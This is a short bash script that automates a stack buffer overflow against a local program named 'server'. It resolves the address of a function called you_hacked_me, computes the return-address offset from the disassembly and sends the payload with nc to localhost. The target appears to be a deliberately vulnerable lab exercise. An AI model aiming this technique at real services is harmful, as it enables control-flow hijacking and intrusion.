#!/usr/bin/env bash
# hack.sh [PID]: exploit the running server.  Reads where you_hacked_me is
# (from the binary's symbols plus, for PIE, the process's load address) and
# how far handle_connection's return address lies past its buffer (from
# the disassembly), then sends a request that overwrites the return address.
set -euo pipefail
pid=${1:-$(pidof -s server)} || { echo "hack.sh: no running server" >&2; exit 1; }
exe=$(readlink "/proc/$pid/exe")
port=${SERVER_PORT:-3345}

sym=$(nm "$exe" | awk '$3 == "you_hacked_me" { print $1 }')
[ -n "$sym" ] || { echo "hack.sh: $exe has no symbol you_hacked_me" >&2; exit 1; }
base=0
if readelf -h "$exe" | grep -q 'Type:.*DYN'; then
	base=0x$(awk -v exe="$exe" '$6 == exe && $3 == "00000000" { split($1, a, "-"); print a[1]; exit }' \
		"/proc/$pid/maps")
fi
target=$((0x$sym + base))

# handle_connection: "sub $0xN,%rsp" ... "lea 0xX(%rsp),%rsi" (recv's buffer)
read -r frame buffer < <(objdump -d --no-show-raw-insn "$exe" |
	awk '/<handle_connection>:/ { on = 1; next }
	     on && /sub +\$0x[0-9a-f]+,%rsp/ { match($0, /\$0x[0-9a-f]+/); f = substr($0, RSTART + 1, RLENGTH - 1) }
	     on && /lea +0x[0-9a-f]+\(%rsp\),%rsi/ { match($0, /0x[0-9a-f]+\(/); b = substr($0, RSTART, RLENGTH - 1) }
	     on && /ret/ { print f, b; exit }')
offset=$((frame - buffer))

filler=0123456789ABCDEF0123456789ABCDEF0123456789ABCDEF
payload=${filler:0:$offset}
for ((i = 0; i < 8; i++)); do
	payload+=$(printf '\\x%02x' $(((target >> (8 * i)) & 0xff)))
done
printf "hack.sh: you_hacked_me at 0x%x, return address %d bytes past the buffer\n" "$target" "$offset"
printf "$payload" | nc -q1 127.0.0.1 "$port"
